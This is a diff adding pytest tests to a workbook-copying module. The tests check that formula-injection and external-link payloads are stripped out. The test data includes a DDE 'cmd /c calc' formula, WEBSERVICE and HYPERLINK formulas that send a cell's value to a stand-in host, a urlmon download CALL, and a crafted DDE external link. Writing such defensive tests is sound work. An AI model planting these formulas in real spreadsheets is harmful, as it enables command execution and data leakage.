@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import zipfile
 from io import BytesIO
 from typing import Any
 
@@ -10,6 +11,7 @@ from openpyxl import load_workbook
 
 from aidledger.sheets.feedback import Copy
 from tests.builders import (
+    edited_package,
     roster_grid,
     with_cells,
     xlsx_bytes,
@@ -21,6 +23,7 @@ from tests.builders.feedback import (
     copy_of,
     saved,
 )
+from tests.builders.packages import MAIN, RELATIONSHIPS
 
 
 def _with_formulas(**cells: str) -> bytes:
@@ -83,3 +86,53 @@ def test_a_row_that_may_go_keeps_the_total_a_formula() -> None:
     book.worksheets[0]["F7"] = "=SUM(F3:F6)"
     values, formulas = _values_and_formulas(copy_of(calculated(saved(book), {"F7": "4000"})))
     assert (values["F7"].value, formulas["F7"].value) == (4000, "=SUM(F3:F6)")
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "=cmd|'/c calc'!A0",
+        '=WEBSERVICE("http://localhost:1/"&F4)',
+        '=HYPERLINK("http://localhost:1/"&F4,"x")',
+        '=IF(F4="",hyperlink ("http://localhost:1"),1)',
+        "=[1]Sheet1!F4",
+        "=SUM('C:\\x\\[other.xlsx]Sheet1'!F4)",
+        '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,F4)',
+        '=RTD("x",,F4)',
+    ],
+)
+@pytest.mark.parametrize("cell", ["F4", "J1"])
+def test_a_formula_that_asks_anybody_outside_does_not_come_back_from_the_office(formula: str, cell: str) -> None:
+    """Neither where its cell or what it hangs on is to be corrected, nor where it was never calculated."""
+    never = copy_of(_with_formulas(**{cell: formula}))
+    assert _values_and_formulas(never)[1][cell].value is None
+    _, formulas = _values_and_formulas(copy_of(calculated(_with_formulas(**{cell: formula}), {cell: "=1+1"})))
+    assert (formulas[cell].value, formulas[cell].data_type) == ("=1+1", "s")
+
+
+def test_links_to_other_workbooks_are_not_in_the_copy() -> None:
+    link = b'<Relationship Id="rId99" Type="%s/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>'
+    reference = b'<externalReferences><externalReference xmlns:r="%s" r:id="rId99"/></externalReferences>'
+    kind = RELATIONSHIPS.encode()
+    content = edited_package(
+        xlsx_bytes(bad_grid()),
+        {
+            "xl/_rels/workbook.xml.rels": lambda part: part.replace(b"</Relationships>", link % kind),
+            "xl/workbook.xml": lambda part: part.replace(b"<calcPr", reference % kind + b"<calcPr"),
+        },
+    )
+    target = BytesIO(content)
+    with zipfile.ZipFile(target, "a") as archive:
+        archive.writestr(
+            "xl/externalLinks/externalLink1.xml",
+            f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+        )
+        archive.writestr(
+            "xl/externalLinks/_rels/externalLink1.xml.rels",
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/externalLinkPath" Target="http://localhost:1" '
+            'TargetMode="External"/></Relationships>',
+        )
+    with zipfile.ZipFile(BytesIO(copy_of(target.getvalue()).content)) as archive:
+        assert not [name for name in archive.namelist() if "externalLink" in name]
+        assert b"ddeService" not in b"".join(map(archive.read, archive.namelist()))
